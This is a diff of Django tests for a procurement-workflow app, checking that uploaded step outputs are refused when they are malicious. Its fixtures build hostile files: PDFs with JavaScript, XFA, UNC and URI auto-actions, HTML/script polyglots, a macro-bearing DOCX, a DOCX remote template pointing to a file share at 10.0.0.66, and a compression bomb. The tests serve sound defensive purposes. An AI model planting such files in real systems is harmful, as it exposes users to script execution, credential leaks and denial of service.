@@ -10,9 +10,13 @@ import pytest
 from django.core.exceptions import PermissionDenied, ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import IntegrityError, transaction
+from django.utils import translation
 from freezegun import freeze_time
+from pypdf.actions import JavaScript
 
 from sopan.core.models import AuditEvent
+from sopan.core.tests import test_uploads as upload_files
+from sopan.core.uploads import DOCX, MB, PNG, XLSX
 from sopan.sop import api, procedures
 from sopan.sop import definition as d
 from sopan.sop.models import Case, SopVersion, StepOutput, StepRecord
@@ -316,9 +320,9 @@ def test_outputs_are_checked_by_content_and_stored_on_commit(version, personas, 
     vendor = personas["vendor_admin"]
     case = cases.case_start(version=version, title="CV Berkas", by=personas["lpse_head"])
     fake = SimpleUploadedFile("surat.pdf", b"MZ\x90\x00 this is an executable", content_type="application/pdf")
-    with pytest.raises(ValidationError, match="not a PDF"):
+    with pytest.raises(ValidationError, match=r"surat\.pdf: "), translation.override("en"):
         cases.step_complete(record=_record(case, "ajukan"), by=vendor, outputs=[fake])
-    pdf = SimpleUploadedFile("surat permohonan.pdf", b"%PDF-1.4\n%\xe2\xe3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
+    pdf = SimpleUploadedFile("surat permohonan.pdf", upload_files.pdf_bytes())
     with pytest.raises(RuntimeError), transaction.atomic():  # a completion that rolls back stores no file
         cases.step_complete(record=_record(case, "ajukan"), by=vendor, outputs=[pdf])
         raise RuntimeError
@@ -327,8 +331,109 @@ def test_outputs_are_checked_by_content_and_stored_on_commit(version, personas, 
     with django_capture_on_commit():
         cases.step_complete(record=_record(case, "ajukan"), by=vendor, outputs=[pdf])
     output = StepOutput.objects.get()
-    assert output.name == "surat-permohonan.pdf" and len(output.sha256) == 64
+    assert output.name == "surat permohonan.pdf" and len(output.sha256) == 64
     assert (tmp_path / output.file.name).read_bytes().startswith(b"%PDF")
+
+
+# Issue 13: step outputs skipped the PDF and image checks and took office files unchecked. Each of these was stored.
+OUTPUT_ATTACKS = {
+    "pdf-javascript": (
+        upload_files.pdf_bytes(lambda writer: writer.add_open_action(JavaScript("app.alert(1);"))),
+        "surat.pdf",
+    ),
+    "pdf-xfa": (
+        upload_files.raw_pdf(
+            catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>",
+            objects=(upload_files.stream(upload_files.XFA_WITH_SCRIPT),),
+        ),
+        "formulir.pdf",
+    ),
+    "pdf-gotor-unc": (
+        upload_files.raw_pdf(catalog=b"/OpenAction " + upload_files.AUTOMATIC_ACTIONS["GoToR to a UNC path"]),
+        "surat.pdf",
+    ),
+    "pdf-open-uri": (
+        upload_files.raw_pdf(catalog=b"/OpenAction " + upload_files.AUTOMATIC_ACTIONS["URI"]),
+        "surat.pdf",
+    ),
+    "pdf-html-polyglot": (
+        upload_files.pdf_bytes().replace(b"\n", b"\n%<html><script>alert(1)</script></html>\n", 1),
+        "surat.pdf",
+    ),
+    "jpeg-html-polyglot": (upload_files.jpeg_with(comment=b"<html><script>alert(1)</script>"), "foto.jpg"),
+    "png-49-megapixels": (upload_files.blank_png(7000, 7000), "denah.png"),
+    "docx-macros": (
+        upload_files.docx_bytes(entries={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)}),
+        "laporan.docx",
+    ),
+    "docx-remote-template": (
+        upload_files.docx_bytes(
+            entries={
+                "word/_rels/settings.xml.rels": (
+                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                    f'<Relationship Id="rId1" Type="{upload_files.RELS}/attachedTemplate" '
+                    'Target="file://10.0.0.66/share/t.dotm" TargetMode="External"/></Relationships>'
+                )
+            }
+        ),
+        "laporan.docx",
+    ),
+    "doc-legacy": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "laporan.doc"),
+}
+
+
+@pytest.mark.parametrize(("content", "name"), OUTPUT_ATTACKS.values(), ids=OUTPUT_ATTACKS.keys())
+def test_a_step_output_gets_the_same_check_as_every_upload(version, personas, content, name):
+    vendor = personas["vendor_admin"]
+    case = cases.case_start(version=version, title="CV Berkas", by=personas["lpse_head"])
+    record = _record(case, "ajukan")
+    with translation.override("en"):
+        expected = upload_files.refused(
+            upload_files.upload(content, name), allowed=upload_files.OFFICE, max_bytes=10 * MB
+        )
+
+        with pytest.raises(ValidationError) as caught:
+            cases.step_complete(record=record, by=vendor, outputs=[SimpleUploadedFile(name, content)])
+
+    assert caught.value.message_dict == {"outputs": [f"{name}: {' '.join(expected.messages)}"]}
+    assert StepRecord.objects.get(pk=record.pk).status == "open"
+    assert not StepOutput.objects.exists()
+
+
+def test_a_flate_bomb_as_a_step_output_is_refused(version, personas):
+    bomb = upload_files.raw_pdf(
+        page=b"/Contents 4 0 R",
+        objects=(upload_files.stream(upload_files.flate_bomb(200 * MB), b"/Filter /FlateDecode"),),
+    )
+    case = cases.case_start(version=version, title="CV Berkas", by=personas["lpse_head"])
+
+    with pytest.raises(ValidationError) as caught, translation.override("en"):
+        cases.step_complete(
+            record=_record(case, "ajukan"), by=personas["vendor_admin"], outputs=[SimpleUploadedFile("surat.pdf", bomb)]
+        )
+
+    assert caught.value.message_dict == {
+        "outputs": ["surat.pdf: The PDF file expands to more than 160 MB when opened (a compression bomb)."]
+    }
+
+
+@pytest.mark.parametrize(
+    ("content", "name", "content_type"),
+    [
+        (upload_files.xlsx_bytes(), "rekap.xlsx", XLSX),
+        (upload_files.docx_bytes(), "berita acara.docx", DOCX),
+        (upload_files.image_bytes("PNG"), "foto.png", PNG),
+    ],
+)
+def test_ordinary_office_files_and_images_are_stored_as_outputs(version, personas, content, name, content_type):
+    case = cases.case_start(version=version, title="CV Berkas", by=personas["lpse_head"])
+
+    cases.step_complete(
+        record=_record(case, "ajukan"), by=personas["vendor_admin"], outputs=[SimpleUploadedFile(name, content)]
+    )
+
+    output = StepOutput.objects.get()
+    assert (output.name, output.content_type, output.size) == (name, content_type, len(content))
 
 
 def django_capture_on_commit():
